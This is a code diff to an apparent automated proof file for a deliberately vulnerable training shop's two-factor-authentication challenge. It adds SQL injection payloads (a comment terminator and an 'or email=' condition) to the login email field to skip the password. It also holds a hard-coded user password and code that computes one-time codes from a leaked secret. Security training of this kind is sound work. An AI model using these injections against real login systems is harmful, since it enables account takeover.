@@ -34,9 +34,17 @@ async function secretOf(attacker: Attacker): Promise<string> {
   return rows.find(({ name }) => name === mailOf(attacker))?.description ?? ''
 }
 
-/** The first step, past the password. */
-async function firstStep(attacker: Attacker, email = `${mailOf(attacker)}'--`, password = 'x'): Promise<string> {
-  return (await attacker.post('/rest/user/login', { email, password })).json().data.tmpToken
+/** The first step with a password. */
+async function firstStepOf(attacker: Attacker, email: string, password: string): Promise<string | null> {
+  const answer = await attacker.post('/rest/user/login', { email, password })
+  return answer.text.startsWith('{') ? (answer.json().data?.tmpToken ?? null) : null
+}
+
+/** The first step, past the password: by a comment, or where that is not enough by a condition that is true. */
+async function firstStep(attacker: Attacker): Promise<string> {
+  const email = mailOf(attacker)
+  const byComment = await firstStepOf(attacker, `${email}'--`, 'x')
+  return byComment ?? (await firstStepOf(attacker, `${email}' or email='${email}`, 'x')) ?? ''
 }
 
 const verify = (attacker: Attacker, tmpToken: string, totpToken: unknown) =>
@@ -58,8 +66,8 @@ export const proof = prove(challenge, {
     'with the code as a number': signIn(0, Number),
     'with the password, where somebody knows it': async (attacker) => {
       const code = codeOf(await secretOf(attacker), await shopTime(attacker))
-      const tmpToken = await firstStep(attacker, mailOf(attacker), 'EinBelegtesBrotMitSchinkenSCHINKEN!')
-      await verify(attacker, tmpToken, code)
+      const tmpToken = await firstStepOf(attacker, mailOf(attacker), 'EinBelegtesBrotMitSchinkenSCHINKEN!')
+      await verify(attacker, tmpToken ?? '', code)
     },
     'after wrong codes': async (attacker) => {
       const tmpToken = await firstStep(attacker)
@@ -98,7 +106,7 @@ export const proof = prove(challenge, {
       const { secret, setupToken } = (await attacker.get('/rest/2fa/status')).json()
       const now = await shopTime(attacker)
       await attacker.post('/rest/2fa/setup', { password, setupToken, initialToken: codeOf(secret, now) })
-      await verify(attacker, await firstStep(attacker, email, password), codeOf(secret, now + STEP))
+      await verify(attacker, (await firstStepOf(attacker, email, password)) ?? '', codeOf(secret, now + STEP))
     },
   },
 })
